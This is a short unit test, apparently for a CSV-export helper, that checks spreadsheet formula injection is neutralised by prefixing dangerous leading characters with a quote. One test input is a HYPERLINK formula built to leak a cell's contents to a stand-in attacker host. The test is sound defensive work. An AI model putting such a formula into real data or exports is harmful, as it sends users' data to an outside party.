import { expect, it } from "vitest";
import { csvField } from "./handlers-request-log.ts";

it("a member's text that a spreadsheet would run as a formula is shown as text; numbers and plain text are as they are", () => {
  expect(csvField('=HYPERLINK("https://evil.example/?leak="&B2,"open")')).toBe(`"'=HYPERLINK(""https://evil.example/?leak=""&B2,""open"")"`);
  for (const lead of ["+", "-", "@", "\t"]) expect(csvField(`${lead}cmd`)).toBe(`'${lead}cmd`);
  expect(csvField("\rcmd")).toBe(`"'\rcmd"`);
  expect(csvField("key, with comma")).toBe('"key, with comma"');
  expect(csvField("plain-key")).toBe("plain-key");
  expect(csvField(-5)).toBe("-5");
  expect(csvField(null)).toBe("");
});
